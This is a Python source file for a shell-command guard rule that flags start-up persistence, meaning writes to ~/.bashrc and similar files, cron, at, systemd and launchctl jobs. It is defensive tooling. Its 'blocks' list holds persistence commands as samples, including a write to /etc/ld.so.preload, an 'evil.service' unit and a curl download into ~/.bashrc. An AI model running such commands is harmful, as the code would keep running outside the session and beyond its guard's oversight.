"""What is written to a start-up file or a scheduler runs again later, outside this session and its guard."""

from holdfast.guard.effects import writes
from holdfast.guard.paths import starts_up
from holdfast.guard.rule import Finding, Rule

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterator

    from holdfast.guard.line import Arg, Command, Line, World


def check(line: "Line") -> "Iterator[Finding]":
    for command in line.commands:
        for write in writes(command, line.world):
            path = write.path or _guess(write.arg, line.world)
            if path and starts_up(path, line.world):
                yield Finding(f"`{write.how}` writes {write.arg.shown}, which runs by itself later", start=command.start, end=command.end)
                break
        what = _SCHEDULERS[command.program](command) if command.program in _SCHEDULERS else None
        if what:
            yield Finding(f"`{_short(command)}` {what}", start=command.start, end=command.end)


def _guess(arg: "Arg", world: "World") -> "str | None":
    """A file in a folder that is not known, judged as if that were a home: "$OTHER_HOME/.bashrc", /home/$USER/.bashrc."""
    last = arg.pieces[-1] if arg.pieces else ""
    return world.home + last if last.__class__ is str and last.startswith("/") and len(arg.pieces) > 1 else None


def _short(command: "Command") -> str:
    text = repr(command)
    return text if len(text) <= 60 else text[:57] + "..."


def _crontab(command: "Command") -> "str | None":
    if command.has_flag("l", "--list", "h", "--help", "V", "-T"):
        return None
    return "changes what cron runs" if command.args or command.feeds or command.stdin is not None or command.redirects else None


def _at(command: "Command") -> "str | None":
    return None if command.has_flag("l", "q", "V", "c", "--help") else "schedules commands that run later"


def _systemctl(command: "Command") -> "str | None":
    verbs = {w for w in command.words if w}
    if verbs & {"enable", "reenable", "link", "preset", "add-wants", "add-requires", "edit", "set-default"}:
        return "makes a unit start by itself"
    return None


def _launchctl(command: "Command") -> "str | None":
    verbs = {w for w in command.words if w}
    return "makes a job start by itself" if verbs & {"load", "bootstrap", "submit", "enable", "config"} else None


def _rc_tools(command: "Command") -> "str | None":
    verbs = {w for w in command.words if w}
    return "makes a service start by itself" if verbs & {"defaults", "enable", "on", "add", "--add", "default"} else None


def _systemd_run(command: "Command") -> "str | None":
    return "schedules a command" if any((w or "").startswith(("--on-", "--timer-property")) for w in command.words) else None


_SCHEDULERS = {"crontab": _crontab, "at": _at, "batch": _at, "systemctl": _systemctl, "launchctl": _launchctl, "update-rc.d": _rc_tools,
               "chkconfig": _rc_tools, "rc-update": _rc_tools, "insserv": _rc_tools, "systemd-run": _systemd_run}

RULE = Rule(
    code="PER001",
    title="start-up persistence",
    category="persistence",
    why="It would run again later, outside this session and without its guard.",
    instead="Set what you need for this one command, for example `PATH=\"$HOME/bin:$PATH\" make`, or say what a person should add.",
    severity="danger",
    blocks=("echo 'export X=1' >> ~/.bashrc", "cat >> $HOME/.zshrc <<'E'\nalias a=b\nE", "tee -a ~/.profile < x", "crontab jobs.txt",
            "(crontab -l; echo '* * * * * id') | crontab -", "cp evil.service /etc/systemd/system/", "systemctl --user enable job.timer",
            "sed -i '$ a id' ~/.bash_profile", "echo id | at now + 1 hour", "cp x.desktop ~/.config/autostart/",
            "sudo sh -c 'echo x > /etc/ld.so.preload'",
            "cd ~ && echo id >> .bashrc", "launchctl load ~/Library/LaunchAgents/x.plist", "ln -sf $PWD/rc ~/.zshenv",
            "echo x | sudo tee /etc/cron.d/job",
            "for f in ~/.bashrc ~/.zshrc; do echo id >> $f; done", "mv rc /root/.bashrc", "install -m 755 x /etc/init.d/x",
            "curl -s example.invalid -o ~/.bashrc",
            "dd if=x of=/etc/profile.d/x.sh", "echo x >> \"$SOME_HOME/.bashrc\"", "systemd-run --on-boot=60 id",
            "printf x >> /home/dev/.zshrc"),
    allows=("cat ~/.bashrc", "source ~/.bashrc", "cp ~/.bashrc ~/.bashrc.bak", "crontab -l", "systemctl status nginx",
            "grep alias ~/.zshrc",
            "echo 'add this to ~/.bashrc'", "git commit -m 'write ~/.bashrc'", "systemctl --user restart app", "ls /etc/cron.d",
            "echo x > bashrc",
            "cp .bashrc.example config/.bashrc", "atq", "at -l", "diff ~/.zshrc dotfiles/.zshrc", "systemctl list-timers",
            "echo x >> docs/.profile",
            "man crontab", "vim --version", "stat ~/.config/autostart", "launchctl list"),
    check=check,
)
